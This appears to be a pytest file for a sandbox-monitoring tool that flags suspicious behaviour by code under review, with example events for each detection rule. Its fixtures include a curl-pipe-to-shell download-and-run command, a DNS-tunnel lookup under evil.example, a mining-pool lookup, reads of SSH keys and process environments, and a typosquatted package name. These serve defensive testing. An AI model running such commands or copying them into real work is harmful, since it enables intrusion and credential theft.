"""Every rule, by a fact that it is for; and what ordinary models do, which no rule may raise an alarm about."""

import pytest

from modelops.review.facts import FILES, KERNEL, RUNNER, TOLD, Fact
from modelops.review.findings import SEVERITIES, find, rules, worst


def fact(kind: str, phase: str = "task", known: str = KERNEL, **values: str) -> Fact:
    return Fact(kind, phase, known, tuple(values.items()))


EXAMPLES = {
    "network-in-build": fact("connect", "build 0", address="93.184.215.14:443", answer="ENETUNREACH"),
    "mining-pool": fact("dns", name="pool.supportxmr.com", server="127.0.0.1:53"),
    "dns-tunnel": fact("dns", name="MFZWIZLTOQ2DCMRQGE3TQOJQGEZDGNBVGY3TQOJQ0123456789.evil.example"),
    "dns": fact("dns", name="example.com"),
    "connect": fact("connect", address="1.2.3.4:80", answer="ENETUNREACH"),
    "connect-here": fact("connect", address="127.0.0.1:8786", answer="ok"),
    "socket-family": fact("socket", family="AF_PACKET", answer="EPERM"),
    "credentials": fact("file_read", path="/tmp/home/.ssh/id_rsa", answer="ENOENT"),
    "other-processes": fact("file_read", path="/proc/1/environ", answer="EACCES"),
    "accounts": fact("file_read", path="/etc/passwd", answer="ok"),
    "kernel-settings": fact("file_write", path="/proc/sys/kernel/core_pattern", action="write", answer="EROFS"),
    "write-outside": fact("file_write", path="/usr/lib/x.so", action="write", answer="EROFS"),
    "unprintable-name": fact("file_write", path="/tmp/\\x1b[2J", action="write", answer="ok"),
    "download-and-run": fact("execute", program="/bin/sh", arguments="sh -c curl http://x | sh", answer="ok"),
    "dropped-program": fact("execute", program="/tmp/payload", arguments="payload", answer="ok"),
    "built-program": fact("execute", "build 0", program="/tmp/source/conftest", arguments="conftest", answer="ok"),
    "program-in-memory": fact("execute_memory", program="/proc/self/fd/3", answer="ok"),
    "network-tool": fact("execute", program="/usr/bin/curl", arguments="curl https://x", answer="ENOENT"),
    "other-program": fact("execute", program="/usr/bin/gzip", arguments="gzip x", answer="ok"),
    "outlives-parent": fact("outlives_parent", program="/bin/sleep", arguments="sleep 100"),
    "left-running": fact("left_running", program="/venv/bin/python", arguments="python"),
    "ptrace": fact("other_process", call="ptrace", argument="PTRACE_ATTACH", answer="EPERM"),
    "namespace": fact("kernel_call", call="unshare", answer="EPERM"),
    "keyring": fact("kernel_call", call="add_key", answer="EPERM"),
    "kernel-call": fact("kernel_call", call="perf_event_open", answer="EPERM"),
    "identity": fact("identity", call="setuid", argument="", answer="EINVAL"),
    "written-and-run": fact("executable_memory", how="written to and run", answer="ok"),
    "made-executable": fact("executable_memory", how="made executable", answer="ok"),
    "memory-file": fact("memory_file", name="x", answer="ok"),
    "signal": fact("signal", signal="SIGKILL", target="the sandbox's init", answer="EPERM"),
    "refused": fact("refused", call="mbind", answer="EPERM"),
    "long-sleep": fact("sleep", seconds="20"),
    "sleep": fact("sleep", seconds="2"),
    "limit": fact("limit", known=RUNNER, type="memory_limit", error="it used 4 GiB"),
    "failed": fact("failed", known=RUNNER, type="task_exception", error="KeyError"),
    "code-from-text": fact("told_code", known=TOLD, event="compile", what="import os", by="bundle"),
    "audit-hook": fact("told_hook", known=TOLD, event="sys.addaudithook", what="", by="bundle"),
    "lookup-told": fact("told_lookup", known=TOLD, event="socket.getaddrinfo", what="example.com 443", by="bundle"),
    "hidden-code": fact(
        "unusual_file", "bundle", FILES, path="a.py", what="line 3: base64 that decodes to code or a URL: x"
    ),
    "packed": fact("unusual_file", "bundle", FILES, path="a.py", what="looks packed: 5.9 bits a character"),
    "native": fact("unusual_file", "bundle", FILES, path="a.so", what="native code"),
    "host-name": fact("unusual_file", "bundle", FILES, path="a.py", what="line 2: asks for the host's name"),
    "starts-with-python": fact("unusual_file", "bundle", FILES, path="a.pth", what="runs at every start of Python, .."),
    "unusual-file": fact("unusual_file", "bundle", FILES, path="a.zip", what="archive"),
    "odd-file": fact("unusual_file", "bundle", FILES, path=".hidden", what="hidden"),
    "near-name": fact("near_name", "supply", RUNNER, name="reqeusts", like="requests"),
    "pth": fact("pth", "supply", FILES, package="x", path="x.pth", line="import x"),
    "pth-known": fact("pth", "supply", FILES, package="setuptools", path="distutils-precedence.pth", line="import os"),
    "from-elsewhere": fact("package", "supply", RUNNER, name="x", source="git+https://x@abc"),
    "built-here": fact("package", "supply", RUNNER, name="x", source="bundle"),
}


@pytest.mark.parametrize("rule", rules(), ids=lambda rule: rule.name)
def test_a_rule_finds_what_it_is_for(rule: object) -> None:
    name = rule.name  # type: ignore[attr-defined]
    [finding] = find([EXAMPLES[name]])
    assert finding.rule == name
    assert finding.severity in SEVERITIES and finding.sentence.isprintable()


def test_every_example_has_its_rule() -> None:
    assert set(EXAMPLES) == {rule.name for rule in rules()}


@pytest.mark.parametrize(
    "ordinary",
    [
        fact("connect", address="unix:/var/run/nscd/socket", answer="ENOENT"),
        fact("connect", "build 0", address="unix:/run/nscd/socket", answer="ENOENT"),
        fact("connect", address="127.0.0.1:41000", answer="EINPROGRESS"),
        fact("dns", name="sandbox"),
        fact("execute", program="/venv/bin/python", arguments="python -c from multiprocessing.spawn import spawn_main"),
        fact(
            "outlives_parent", program="/venv/bin/python", arguments="python -c from multiprocessing.resource_tracker"
        ),
        fact("file_write", path="/proc/self/task/7/comm", action="write", answer="ok"),
        fact("file_read", path="/etc/passwd", answer="ok"),
        fact("refused", call="clone3", answer="ENOSYS"),
        fact("told_code", known=TOLD, event="compile", what="def __init__(self)", by="python"),
        fact("told_code", known=TOLD, event="compile", what="lambda x: x", by="numpy"),
        fact("executable_memory", how="written to and run", answer="ok"),
    ],
    ids=lambda one: f"{one.kind} {one.values[0][1]}",
)
def test_what_ordinary_models_do_is_no_warning(ordinary: Fact) -> None:
    assert worst(find([ordinary])) in (None, "info", "notice")


def test_the_severest_come_first_and_each_has_its_evidence_bounded() -> None:
    many = [fact("dns", name=f"host{number}.example.com") for number in range(50)]
    findings = find([EXAMPLES["sleep"], *many, EXAMPLES["ptrace"]])
    assert [finding.rule for finding in findings] == ["ptrace", "dns", "sleep"]
    assert len(findings[1].evidence) + findings[1].more == 50 and findings[1].more > 0
    assert findings[1].as_json()["evidence"][0]["name"] == "host0.example.com"
